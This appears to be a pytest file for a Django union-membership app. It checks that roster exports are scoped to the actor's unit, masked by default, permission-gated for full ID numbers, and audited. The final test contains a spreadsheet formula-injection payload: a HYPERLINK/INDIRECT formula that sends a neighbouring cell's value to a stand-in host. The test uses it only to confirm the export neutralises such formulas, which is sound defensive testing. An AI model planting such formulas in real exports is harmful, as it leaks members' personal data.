"""Roster export: scoped, streamed, masked by default, full ID numbers only with the permission, audited."""

from __future__ import annotations

import io
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse

from gonghui.audit.models import AuditEvent
from gonghui.authz import access
from gonghui.authz.testing import http_matrix, login, service_matrix
from gonghui.members.imports.services import import_confirm, import_upload
from gonghui.members.imports.tests.test_import_pipeline import csv_upload, good_rows, ids
from gonghui.members.permissions import EXPORT_FULL_ID, EXPORT_MEMBER, IMPORT_MEMBER, VIEW_MEMBER
from gonghui.members.roster.exports import export_members

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _media(settings: Any, tmp_path: Path) -> None:
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture
def numbers(world: Any) -> list[str]:
    actor = world.actor("ancestor", IMPORT_MEMBER)
    mine = ids(3)
    import_confirm(actor=actor, job=import_upload(actor=actor, unit=world.child, upload=csv_upload(good_rows(mine))))
    other = ids(2, start=500)
    rows = good_rows(other, name="赵兄弟")
    import_confirm(actor=actor, job=import_upload(actor=actor, unit=world.sibling, upload=csv_upload(rows)))
    return mine


def body(response: Any) -> str:
    assert response.streaming
    return response.getvalue().decode("utf-8-sig")


def test_export_masked_by_default_and_scoped(world: Any, numbers: list[str]) -> None:
    client = login(Client(), world.actor("same_with", EXPORT_MEMBER))
    before = AuditEvent.objects.filter(action="members.export").count()
    response = client.get(reverse("members:export"), {"download": "1", "format": "csv"})
    assert response.status_code == 200
    text = body(response)
    first = text.splitlines()[0]
    assert first.startswith("导出人：")
    assert "导出时间：" in first
    assert "已脱敏" in first
    assert text.count("王兰芳") == 3
    assert "赵兄弟" not in text  # the sibling's members are outside the scope
    assert all(n not in text for n in numbers)
    assert "138****0001" in text
    event = AuditEvent.objects.filter(action="members.export").latest("id")
    assert AuditEvent.objects.filter(action="members.export").count() == before + 1
    assert event.data["count"] == 3
    assert event.data["masked"] is True


def test_export_full_ids_need_the_permission(world: Any, numbers: list[str]) -> None:
    without = world.actor("same_without", EXPORT_FULL_ID)
    with pytest.raises(access.Forbidden):
        export_members(actor=without, unit=world.target, full_id=True)
    result = export_members(actor=world.actor("same_with", EXPORT_FULL_ID), unit=world.target, full_id=True)
    assert result.chunks is not None
    text = b"".join(result.chunks).decode("utf-8-sig")
    assert all(n in text for n in numbers)
    assert "含完整证件号码" in text.splitlines()[0]
    event = AuditEvent.objects.filter(action="members.export").latest("id")
    assert event.data["full_id"] is True
    assert event.unit_id == world.target.pk


def test_export_xlsx(world: Any, numbers: list[str]) -> None:
    from python_calamine import CalamineWorkbook

    client = login(Client(), world.actor("same_with", EXPORT_MEMBER))
    response = client.get(reverse("members:export"), {"download": "1", "format": "xlsx", "unit": world.child.pk})
    assert response.status_code == 200
    assert response.streaming
    data = response.getvalue()
    rows = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()
    assert str(rows[0][0]).startswith("导出人：")
    assert rows[1][0] == "会员编号"
    assert len(rows) == 2 + 3
    from openpyxl import load_workbook

    assert load_workbook(io.BytesIO(data)).properties.creator


def test_export_service_matrix(world: Any, numbers: list[str]) -> None:
    service_matrix(
        world,
        EXPORT_MEMBER,
        act=lambda actor, w: export_members(actor=actor, unit=w.target),
        view_perm=VIEW_MEMBER,
    )


def test_export_page_matrix(world: Any, numbers: list[str]) -> None:
    responses = http_matrix(
        world,
        EXPORT_MEMBER,
        "get",
        lambda w: reverse("members:export") + f"?download=1&format=csv&unit={w.target.pk}",
    )
    assert responses["sibling"].status_code == 404
    assert "王兰芳" in body(responses["ancestor"])


FORMULA_NAME = '=HYPERLINK("//x"&INDIRECT("G"&ROW()),"点此")'


def test_a_formula_looking_name_is_exported_as_text(world: Any) -> None:
    """A name that a spreadsheet would evaluate (stored by the factory, past the name check) stays text: a string
    cell in the workbook, never a formula, and a ``'``-prefixed cell in the CSV file."""
    import csv

    from openpyxl import load_workbook

    from gonghui.members.tests.factories import MemberFactory

    MemberFactory.create(unit=world.child, name=FORMULA_NAME)
    actor = world.actor("same_with", EXPORT_MEMBER)

    result = export_members(actor=actor, unit=world.child, fmt="xlsx")
    assert result.handle is not None
    sheet = load_workbook(result.handle).worksheets[0]
    cell = sheet.cell(row=3, column=2)
    assert cell.data_type == "s"
    assert cell.value == FORMULA_NAME
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)

    result = export_members(actor=actor, unit=world.child, fmt="csv")
    assert result.chunks is not None
    rows = list(csv.reader(io.StringIO(b"".join(result.chunks).decode("utf-8-sig"))))
    assert rows[2][1] == "'" + FORMULA_NAME
